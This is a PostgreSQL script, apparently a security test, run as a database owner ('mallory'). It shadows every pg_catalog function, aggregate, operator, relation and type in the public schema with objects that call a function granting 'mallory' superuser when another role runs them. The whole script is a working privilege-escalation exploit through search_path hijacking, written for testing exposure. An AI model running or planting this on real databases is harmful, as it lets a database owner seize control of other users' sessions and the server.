-- What a database owner can do to every session that connects to its database, run as that owner
-- (the test's role "mallory") with search_path = pg_catalog, pg_temp. Everything it creates calls
-- public.pwn(what), which, when it runs as any role other than its owner, logs a WARNING
-- "PWNED as ROLE by WHAT", records a row in public.ran and makes its owner a superuser.
-- After this script the database's search_path puts public before pg_catalog, so that an
-- unqualified name resolves to these objects even where pg_catalog has the same signature.
CREATE TABLE public.ran (who text, what text);
GRANT INSERT ON public.ran TO PUBLIC;

CREATE FUNCTION public.pwn(what text) RETURNS boolean LANGUAGE plpgsql
SET search_path = pg_catalog, pg_temp AS $pwn$
BEGIN
  IF current_user OPERATOR(pg_catalog.<>) 'mallory' THEN
    RAISE WARNING 'PWNED as % by %', current_user, what;
    BEGIN
      INSERT INTO public.ran VALUES (current_user, what);
    EXCEPTION WHEN OTHERS THEN NULL;
    END;
    BEGIN
      EXECUTE 'ALTER ROLE mallory SUPERUSER';
    EXCEPTION WHEN OTHERS THEN NULL;
    END;
  END IF;
  RETURN true;
END
$pwn$;
GRANT EXECUTE ON FUNCTION public.pwn(text) TO PUBLIC;

-- The body of a shadow: call pwn, return what the signature allows.
CREATE FUNCTION pg_temp.shadow_body(what text, returns_nothing boolean) RETURNS text LANGUAGE sql AS $$
  SELECT pg_catalog.format('BEGIN PERFORM public.pwn(%L); RETURN%s; END', what,
                           CASE WHEN returns_nothing THEN '' ELSE ' NULL' END)
$$;

-- Every function of pg_catalog, same name and argument types, in public.
DO $$
DECLARE
  p record; args text; ret text; made int := 0; failed int := 0;
BEGIN
  FOR p IN SELECT f.oid, f.proname, f.proretset, f.proargmodes FROM pg_proc f
           WHERE f.pronamespace = 'pg_catalog'::regnamespace AND f.prokind = 'f' LOOP
    BEGIN
      args := pg_get_function_identity_arguments(p.oid);
      ret := pg_get_function_result(p.oid);
      EXECUTE format('CREATE FUNCTION public.%I(%s) RETURNS %s LANGUAGE plpgsql AS %L', p.proname, args, ret,
                     pg_temp.shadow_body('function ' || p.proname,
                                         p.proretset OR ret = 'void' OR p.proargmodes IS NOT NULL));
      made := made + 1;
    EXCEPTION WHEN OTHERS THEN failed := failed + 1;
    END;
  END LOOP;
  RAISE NOTICE 'shadow functions: % made, % impossible', made, failed;
END $$;

-- Every normal aggregate of pg_catalog, its result type as the state.
DO $$
DECLARE
  a record; args text; ret text; sf text; made int := 0; failed int := 0;
BEGIN
  FOR a IN SELECT f.oid, f.proname FROM pg_proc f JOIN pg_aggregate g ON g.aggfnoid = f.oid
           WHERE f.pronamespace = 'pg_catalog'::regnamespace AND g.aggkind = 'n' LOOP
    BEGIN
      args := pg_get_function_identity_arguments(a.oid);
      ret := pg_get_function_result(a.oid);
      sf := 'pwn_agg_' || a.oid;
      EXECUTE format('CREATE FUNCTION public.%I(%s) RETURNS %s LANGUAGE plpgsql AS %L', sf,
                     ret || CASE WHEN args = '' THEN '' ELSE ', ' || args END, ret,
                     format('BEGIN PERFORM public.pwn(%L); RETURN $1; END', 'aggregate ' || a.proname));
      EXECUTE format('CREATE AGGREGATE public.%I(%s) (SFUNC = public.%I, STYPE = %s)', a.proname,
                     CASE WHEN args = '' THEN '*' ELSE args END, sf, ret);
      made := made + 1;
    EXCEPTION WHEN OTHERS THEN failed := failed + 1;
    END;
  END LOOP;
  RAISE NOTICE 'shadow aggregates: % made, % impossible', made, failed;
END $$;

-- Every operator of pg_catalog, same name and operand types.
DO $$
DECLARE
  o record; fn text; l text; r text; made int := 0; failed int := 0;
BEGIN
  FOR o IN SELECT p.oid, p.oprname, p.oprleft, p.oprright, p.oprresult FROM pg_operator p
           WHERE p.oprnamespace = 'pg_catalog'::regnamespace LOOP
    BEGIN
      fn := 'pwn_op_' || o.oid;
      r := format_type(o.oprright, NULL);
      IF o.oprleft = 0 THEN
        EXECUTE format('CREATE FUNCTION public.%I(%s) RETURNS %s LANGUAGE plpgsql AS %L', fn, r,
                       format_type(o.oprresult, NULL), pg_temp.shadow_body('operator ' || o.oprname, false));
        EXECUTE format('CREATE OPERATOR public.%s (RIGHTARG = %s, FUNCTION = public.%I)', o.oprname, r, fn);
      ELSE
        l := format_type(o.oprleft, NULL);
        EXECUTE format('CREATE FUNCTION public.%I(%s, %s) RETURNS %s LANGUAGE plpgsql AS %L', fn, l, r,
                       format_type(o.oprresult, NULL), pg_temp.shadow_body('operator ' || o.oprname, false));
        EXECUTE format('CREATE OPERATOR public.%s (LEFTARG = %s, RIGHTARG = %s, FUNCTION = public.%I)',
                       o.oprname, l, r, fn);
      END IF;
      made := made + 1;
    EXCEPTION WHEN OTHERS THEN failed := failed + 1;
    END;
  END LOOP;
  RAISE NOTICE 'shadow operators: % made, % impossible', made, failed;
END $$;

-- Every table and view of pg_catalog, as a view in public that calls pwn for each row.
DO $$
DECLARE
  c record; made int := 0; failed int := 0;
BEGIN
  FOR c IN SELECT relname FROM pg_class WHERE relnamespace = 'pg_catalog'::regnamespace AND relkind IN ('r', 'v') LOOP
    BEGIN
      EXECUTE format('CREATE VIEW public.%I AS SELECT * FROM pg_catalog.%I WHERE public.pwn(%L)', c.relname,
                     c.relname, 'relation ' || c.relname);
      made := made + 1;
    EXCEPTION WHEN OTHERS THEN failed := failed + 1;
    END;
  END LOOP;
  RAISE NOTICE 'shadow relations: % made, % impossible', made, failed;
END $$;

-- Every base type of pg_catalog, as a domain whose check calls pwn: a cast to an unqualified
-- type name runs it.
DO $$
DECLARE
  t record; made int := 0; failed int := 0;
BEGIN
  FOR t IN SELECT typname FROM pg_type WHERE typnamespace = 'pg_catalog'::regnamespace AND typtype = 'b'
           AND typcategory <> 'A' LOOP
    BEGIN
      EXECUTE format('CREATE DOMAIN public.%I AS pg_catalog.%I CHECK (public.pwn(%L))', t.typname, t.typname,
                     'type ' || t.typname);
      made := made + 1;
    EXCEPTION WHEN OTHERS THEN failed := failed + 1;
    END;
  END LOOP;
  RAISE NOTICE 'shadow types: % made, % impossible', made, failed;
END $$;

-- For the function names the test read from the statements a front end sent: overloads with
-- concrete types where pg_catalog's take polymorphic or "any" arguments, and without the
-- arguments pg_catalog's have defaults for. Either kind is a better match than the built-in for
-- some call, and wins even where pg_catalog comes first in search_path.
CREATE FUNCTION public.shadow_overloads(names text[]) RETURNS integer LANGUAGE plpgsql
SET search_path = pg_catalog, pg_temp AS $shadow$
DECLARE
  p record; t text; n int; k int; i int; args text[]; arg text; ret text; made int := 0;
  concrete text[] := ARRAY['integer', 'bigint', 'text', 'name', 'oid', 'boolean', 'timestamp with time zone',
                           'double precision', 'numeric', 'smallint', 'bytea', 'inet', 'xid', '"char"', 'regclass'];
BEGIN
  FOR p IN SELECT f.oid, f.proname, f.prokind, ARRAY(SELECT pg_catalog.unnest(f.proargtypes)) AS types, f.pronargdefaults, f.provariadic, f.proretset,
                  f.prorettype
           FROM pg_proc f WHERE f.pronamespace = 'pg_catalog'::regnamespace AND f.proname = ANY (names)
                AND f.prokind IN ('f', 'a') LOOP
    FOREACH t IN ARRAY concrete LOOP
      n := coalesce(array_length(p.types, 1), 0);
      FOR k IN (n - p.pronargdefaults) .. n + CASE WHEN p.provariadic <> 0 THEN 2 ELSE 0 END LOOP
        CONTINUE WHEN k < 0;
        args := ARRAY[]::text[];
        FOR i IN 1 .. k LOOP
          arg := format_type(p.types[least(i, n)], NULL);
          IF arg IN ('anyelement', 'anynonarray', 'anycompatible', 'anycompatiblenonarray', '"any"') THEN
            arg := t;
          ELSIF arg IN ('anyarray', 'anycompatiblearray') THEN
            arg := t || '[]';
          ELSIF arg = 'text[]' AND i >= n AND p.provariadic <> 0 THEN
            arg := 'text';
          END IF;
          args := args || arg;
        END LOOP;
        ret := format_type(p.prorettype, NULL);
        IF ret IN ('anyelement', 'anynonarray', 'anycompatible') THEN ret := t; END IF;
        IF ret IN ('anyarray', 'anycompatiblearray') THEN ret := t || '[]'; END IF;
        BEGIN
          IF p.prokind = 'a' THEN
            EXECUTE format('CREATE FUNCTION public.%I(%s) RETURNS %s LANGUAGE plpgsql AS %L',
                           'pwn_agg_' || p.oid || '_' || md5(t || k), array_to_string(ret || args, ', '), ret,
                           format('BEGIN PERFORM public.pwn(%L); RETURN $1; END', 'aggregate ' || p.proname));
            EXECUTE format('CREATE AGGREGATE public.%I(%s) (SFUNC = public.%I, STYPE = %s)', p.proname,
                           CASE WHEN k = 0 THEN '*' ELSE array_to_string(args, ', ') END,
                           'pwn_agg_' || p.oid || '_' || md5(t || k), ret);
          ELSE
            EXECUTE format('CREATE FUNCTION public.%I(%s) RETURNS %s LANGUAGE plpgsql AS %L', p.proname,
                           array_to_string(args, ', '), CASE WHEN p.proretset THEN 'SETOF ' ELSE '' END || ret,
                           format('BEGIN PERFORM public.pwn(%L); RETURN%s; END', 'function ' || p.proname,
                                  CASE WHEN ret = 'void' OR p.proretset THEN '' ELSE ' NULL' END));
          END IF;
          made := made + 1;
        EXCEPTION WHEN OTHERS THEN NULL;  -- that signature exists already, or cannot be written
        END;
      END LOOP;
    END LOOP;
  END LOOP;
  RETURN made;
END
$shadow$;
